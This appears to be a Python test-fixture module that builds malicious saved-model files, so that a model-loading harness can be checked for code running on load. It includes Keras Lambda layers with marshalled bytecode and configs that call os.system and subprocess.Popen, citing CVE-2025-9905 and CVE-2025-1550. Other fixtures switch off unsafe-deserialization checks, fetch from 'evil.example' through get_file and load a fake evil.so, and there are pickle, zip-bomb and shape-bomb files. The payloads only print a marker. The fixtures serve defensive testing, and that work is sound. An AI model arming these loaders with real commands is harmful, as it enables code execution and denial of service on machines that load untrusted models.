"""Saved models that run code when they are loaded, lie about their size, or are none: group E.

Each lies beside code that only prints, so that what the harness makes of the file is seen by itself. What would run
says GOT THROUGH.
"""

from __future__ import annotations

import base64
import json
import marshal
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import saved
from attacks.listed import Builder

SHELL = "echo GOT THROUGH 1>&2"


def beside(folder: Path, text: str = "") -> Path:
    """The hand-in, with code beside its models."""
    (folder / "work.py").write_text(f"print('the code beside it ran')\n{text}", encoding="utf-8")
    return folder


def python_lambda() -> dict[str, Any]:
    """A Lambda layer with compiled Python, as Keras writes it."""
    code = base64.b64encode(marshal.dumps((lambda x: print("GOT THROUGH") or x).__code__)).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return saved.layer("Lambda", {"name": "shift", "trainable": True, "function": function, "arguments": {}})


def function(module: str, name: str) -> dict[str, Any]:
    """A function by its name, as Keras writes it."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def keras_file(*layers: dict[str, Any], text: str = "") -> Builder:
    """A `.keras` of these layers behind its input."""

    def build(folder: Path) -> Path:
        config = saved.sequential(saved.entry((None, 784)), *layers, saved.dense(10, "dense", "softmax"))
        weights = {"dense": [np.zeros((784, 10), "float32"), np.zeros(10, "float32")]}
        saved.write_keras(folder / "model.keras", config, weights)
        return beside(folder, text)

    return build


def h5_lambda(folder: Path) -> Path:
    """A `.h5` of Keras 2 with a Lambda layer (CVE-2025-9905)."""
    code = base64.b64encode(marshal.dumps((lambda x: print("GOT THROUGH") or x).__code__)).decode()
    lambda_ = {
        "class_name": "Lambda",
        "config": {"name": "shift", "function": [code, None, None], "function_type": "lambda", "arguments": {}},
    }
    first = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 784], "name": "in"}}
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [first, lambda_]}}
    saved.write_h5(folder / "model.h5", config, {})
    return beside(folder)


def object_in_config(folder: Path) -> Path:
    """A config.json whose objects are functions of the system (CVE-2025-1550)."""
    systems = [
        saved.layer("function", {"module": "os", "name": "system"}) | function("os", "system"),
        saved.layer("Popen", {"args": SHELL, "shell": True}, "subprocess"),
    ]
    for number, one in enumerate(systems):
        called = one | {"name": f"layer_{number}", "inbound_nodes": [{"args": [SHELL], "kwargs": {}}]}
        config = {
            "module": "keras.src.models.functional",
            "class_name": "Functional",
            "config": {
                "name": "functional",
                "layers": [called],
                "input_layers": [[f"layer_{number}", 0, 0]],
                "output_layers": [[f"layer_{number}", 0, 0]],
            },
            "registered_name": "Functional",
        }
        saved.write_keras(folder / f"model_{number}.keras", config, {})
    return beside(folder)


def saved_with_library(folder: Path) -> Path:
    """A SavedModel of a compiled graph, and a library that code asks TensorFlow to load."""
    net = folder / "net"
    (net / "variables").mkdir(parents=True)
    (net / "saved_model.pb").write_bytes(b"\x08\x01\x12\x04evil")
    (net / "variables" / "variables.index").write_bytes(b"")
    (folder / "evil.so").write_bytes(b"\x7fELF\x02\x01\x01" + bytes(400))
    return beside(folder, "import tensorflow as tf\n\nprint('GOT THROUGH', tf.load_op_library('./evil.so'))\n")


CUSTOM = """import keras


@keras.saving.register_keras_serializable(package="work")
class Mine(keras.layers.Layer):
    def call(self, inputs):
        return inputs * 2


print("loaded", keras.models.load_model("model.keras", compile=False).count_params())
"""


def shape_bomb(folder: Path) -> Path:
    """Weights that declare terabytes and store nothing."""
    with h5py.File(folder / "model.h5", "w") as file:
        file.attrs["model_config"] = json.dumps(saved.mlp())
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = [b"dense"]
        inner = group.create_group("dense")
        inner.attrs["weight_names"] = [b"kernel:0"]
        inner.create_dataset("kernel:0", shape=(2**30, 2**10), dtype="f4", chunks=(1, 1024))
    return beside(folder)


class Runs:
    """Unpickled, it says so."""

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return print, ("GOT THROUGH",)


def no_models(folder: Path) -> Path:
    """A pickle, a web page, half a zip and nothing, all called models."""
    whole = saved.write_keras(folder / "truncated.keras", saved.mlp(), saved.mlp_weights()).read_bytes()
    files = {
        "truncated.keras": whole[: len(whole) // 2],
        "pickle.keras": pickle.dumps(Runs()),
        "page.h5": b"<!DOCTYPE html><html><script>alert(1)</script>Sign in</html>",
        "empty.keras": b"",
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return beside(folder)


def other_shapes(folder: Path) -> Path:
    """Networks of other inputs and outputs than the images and the digits have."""
    wide = {"dense": [np.zeros((784, 11), "float64"), np.zeros(11, "float64")]}
    flat = saved.layer("Flatten", {"name": "flatten", "data_format": "channels_last"})
    saved.write_keras(
        folder / "eleven.keras",
        saved.sequential(saved.entry((None, 784)), saved.dense(11, "dense", "linear")),
        wide,
    )
    first = saved.sequential(saved.entry((None, 3, 32, 32)), flat, saved.dense(10, "dense", "softmax"))
    weights = {"dense": [np.zeros((3072, 10), "float32"), np.zeros(10, "float32")]}
    saved.write_keras(folder / "channels_first.keras", first, weights)
    return beside(folder)


def legacy(folder: Path) -> Path:
    """A checkpoint of TensorFlow 1, and nothing that says what network it is of."""
    (folder / "checkpoint").write_text('model_checkpoint_path: "model.ckpt-1"\n', encoding="utf-8")
    for suffix in ("index", "meta", "data-00000-of-00001"):
        (folder / f"model.ckpt-1.{suffix}").write_bytes(bytes(64))
    net = folder / "net"
    net.mkdir()
    (net / "saved_model.pb").write_bytes(b"\x08\x01\x12\x04evil")
    return beside(folder)


def bomb_in_keras(folder: Path) -> Path:
    """A `.keras` of some hundred kilobytes whose weights unpack to a gigabyte."""
    with zipfile.ZipFile(folder / "model.keras", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", json.dumps(saved.mlp()))
        with archive.open("model.weights.h5", "w", force_zip64=True) as file:
            for _ in range(256):
                file.write(bytes(2**20))
    return beside(folder)


UNSAFE = function("keras.src.config", "enable_unsafe_deserialization")
GADGET = function("keras.utils", "get_file")
BUILDERS: dict[str, Builder] = {
    "E01_lambda": keras_file(python_lambda()),
    "E02_lambda_in_h5": h5_lambda,
    "E03_functions_of_the_system": object_in_config,
    "E04_switches_safety_off": keras_file(UNSAFE | {"name": "unsafe"}, python_lambda()),
    "E05_gadget_in_a_lambda": keras_file(
        saved.layer(
            "Lambda",
            {
                "name": "fetch",
                "function": GADGET,
                "arguments": {"origin": "http://evil.example/x", "extract": True},
            },
        )
    ),
    "E06_other_saved_model": keras_file(
        saved.layer("TFSMLayer", {"name": "tfsm", "filepath": "/etc", "call_endpoint": "serve"})
    ),
    "E08_operations_library": saved_with_library,
    "E09_class_of_its_own": keras_file(
        saved.layer("Mine", {"name": "mine"}, None) | {"registered_name": "work>Mine"}, text=CUSTOM
    ),
    "E11_declares_terabytes": shape_bomb,
    "E11_unpacks_to_gigabytes": bomb_in_keras,
    "E18_no_models": no_models,
    "E19_other_shapes": other_shapes,
    "E20_of_old": legacy,
}
